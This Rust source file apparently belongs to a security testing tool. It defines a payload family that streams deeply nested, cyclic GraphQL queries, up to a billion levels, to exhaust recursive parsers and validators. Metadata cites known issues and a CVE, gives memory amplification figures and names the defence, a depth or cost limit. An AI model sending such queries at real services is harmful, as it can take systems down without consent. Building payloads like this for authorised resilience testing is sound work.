//! A GraphQL query that goes round in circles.

use bytes::Bytes;

use crate::payload::pieces::{once, repeated};
use crate::payload::series::{escaped, series};
use crate::payload::{About, Body, Family, Form, Group, Parameter, Takes, Turn, Values};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "graphql-depth",
    group: Group::Work,
    about: About {
        summary: "A GraphQL query that follows a circle of relations, level by level.",
        provokes: "Where a field is a list, every level multiplies the objects of the one before. Very deep queries \
                   end parsers and validators that recurse.",
        seen: "go-ethereum pull request 32344, smallrye-graphql pull request 2551, sourcegraph issue 10129, \
               sensu-go issue 4933, CVE-2022-37734 (graphql-java).",
        becomes: "About 130 bytes on the wire; 50 MiB in graphql-js where everybody has three friends, and 95 MiB with \
               one level more.",
        safe: "400 before anything is resolved: a limit on depth (10 to 20) or on cost.",
    },
    parameters: &[
        Parameter {
            name: "depth",
            about: "levels",
            takes: Takes::Count { least: 1, most: 1_000_000_000, default: 10 },
        },
        Parameter {
            name: "circle",
            about: "the fields of the circle, with commas, such as author,posts",
            takes: Takes::Name("friends"),
        },
        Parameter { name: "root", about: "the field that the circle hangs on; a dot: none", takes: Takes::Name(".") },
        Parameter { name: "leaf", about: "the field in the end", takes: Takes::Name("id") },
    ],
    form: Form::Body(make),
};

fn make(values: &Values, _: &Turn) -> Body {
    let depth = values.number("depth");
    let circle: Vec<String> = values.text("circle").split(',').map(|field| format!("{{{}", escaped(field))).collect();
    let (root, leaf) = (values.text("root"), escaped(values.text("leaf")));
    let root = if root == "." { String::new() } else { format!("{{{}", escaped(root)) };
    let closing = depth + 1 + u64::from(!root.is_empty());
    let before = format!("{{\"query\":\"{root}");
    let leaf = format!("{{{leaf}");

    let around: u64 = circle.iter().map(|field| field.len() as u64).sum();
    let (rounds, rest) = (depth / circle.len() as u64, (depth % circle.len() as u64) as usize);
    let partly: u64 = circle.iter().take(rest).map(|field| field.len() as u64).sum();
    let fields = rounds.saturating_mul(around).saturating_add(partly);
    let size = fields.saturating_add(closing + (before.len() + leaf.len() + AFTER.len()) as u64);
    Body::new("application/json", size, chunks(before, circle, depth, leaf, closing))
}

const AFTER: &str = "\"}";

fn chunks(
    before: String,
    circle: Vec<String>,
    depth: u64,
    leaf: String,
    closing: u64,
) -> impl Iterator<Item = Bytes> + Send {
    let fields = series(depth, move |chunk, level| {
        let field = &circle[(level % circle.len() as u64) as usize];
        chunk.extend_from_slice(field.as_bytes());
    });
    once(before).chain(fields).chain(once(leaf)).chain(repeated(b"}", closing)).chain(once(AFTER))
}

#[cfg(test)]
mod tests {
    use graphql_parser::query::{Definition, OperationDefinition, Selection, SelectionSet, parse_query};

    use super::*;
    use crate::payload::Value;

    fn path(set: &SelectionSet<'_, String>) -> Vec<String> {
        let Selection::Field(field) = &set.items[0] else { panic!("not a field") };
        let inner = if field.selection_set.items.is_empty() { vec![] } else { path(&field.selection_set) };
        [vec![field.name.clone()], inner].concat()
    }

    #[test]
    fn a_real_parser_follows_the_circle() {
        for (depth, circle, root, fields) in [
            (1, "friends", ".", vec!["friends", "id"]),
            (3, "friends", "me", vec!["me", "friends", "friends", "friends", "id"]),
            (3, "author,posts", "post", vec!["post", "author", "posts", "author", "id"]),
        ] {
            let values = Values::defaults(FAMILY).with("depth", Value::Number(depth));
            let values = values.with("circle", Value::Text(circle.into())).with("root", Value::Text(root.into()));
            let body = make(&values, &Turn { index: 0, unique: 0, key: [0; 32] });
            let text: Vec<u8> = body.chunks.flatten().collect();
            assert_eq!(text.len() as u64, body.size);
            let value: serde_json::Value = serde_json::from_slice(&text).unwrap();
            let document = parse_query::<String>(value["query"].as_str().unwrap()).unwrap();
            let Definition::Operation(OperationDefinition::SelectionSet(set)) = &document.definitions[0] else {
                panic!("not a selection")
            };
            assert_eq!(path(set), fields);
        }
    }
}
